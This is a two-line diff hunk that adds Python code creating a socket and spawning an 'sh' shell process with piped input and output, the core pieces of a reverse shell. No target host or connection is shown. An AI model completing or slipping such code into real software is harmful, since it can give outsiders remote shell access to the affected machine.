@@ -1,0 +1,2 @@
+s=socket.socket()
+subprocess.Popen(["sh"], stdin=PIPE, stdout=PIPE)
